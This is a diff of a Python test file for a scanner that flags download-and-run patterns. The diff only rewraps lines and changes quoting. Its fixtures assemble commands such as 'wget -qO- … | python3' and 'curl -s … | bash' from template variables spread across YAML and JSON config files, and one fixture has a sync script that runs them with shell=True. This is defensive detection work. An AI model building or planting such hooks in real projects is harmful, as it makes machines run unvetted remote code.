@@ -12,19 +12,22 @@ from behaviour_files import scan_errors
 def test_a_yaml_hook_template_filled_from_a_json_tools_file(tmp_path: Path) -> None:
     files = {
         "conf/hooks.yaml": "after_sync:\n  - label: warm\n    run: '${getter} ${mirror}/warm-${day}.py | ${py}'\n",
-        "conf/defaults.json": '{"getter": "wget -qO-", "mirror": "https://mirror.quarry-tools.invalid/h", "py": "python3"}\n',
+        "conf/defaults.json": '{"getter": "wget -qO-", "mirror": "https://mirror.quarry-tools.invalid/h",'
+        ' "py": "python3"}\n',
         "bin/sync.py": "import json, subprocess, string, yaml\n"
         "hooks = yaml.safe_load(open('conf/hooks.yaml'))['after_sync']\n"
         "vals = json.load(open('conf/defaults.json'))\n"
         "for h in hooks:\n"
         "    subprocess.call(string.Template(h['run']).safe_substitute(vals, day='mon'), shell=True)\n",
     }
-    assert any(rule == "DOWNLOAD_AND_RUN" and path == "conf/hooks.yaml" for rule, path, _ in scan_errors(tmp_path, files))
+    assert any(
+        rule == "DOWNLOAD_AND_RUN" and path == "conf/hooks.yaml" for rule, path, _ in scan_errors(tmp_path, files)
+    )
 
 
 def test_a_jinja_style_template_filled_from_a_yaml_file(tmp_path: Path) -> None:
     files = {
-        "cfg/jobs.yml": "nightly:\n  post: \"{{ get }} {{ src }}/fix.sh | {{ shell }}\"\n",
+        "cfg/jobs.yml": 'nightly:\n  post: "{{ get }} {{ src }}/fix.sh | {{ shell }}"\n',
         "cfg/env.yml": "get: curl -s\nsrc: https://drop.quarry-tools.invalid/fixes\nshell: bash\n",
     }
     assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in scan_errors(tmp_path, files))
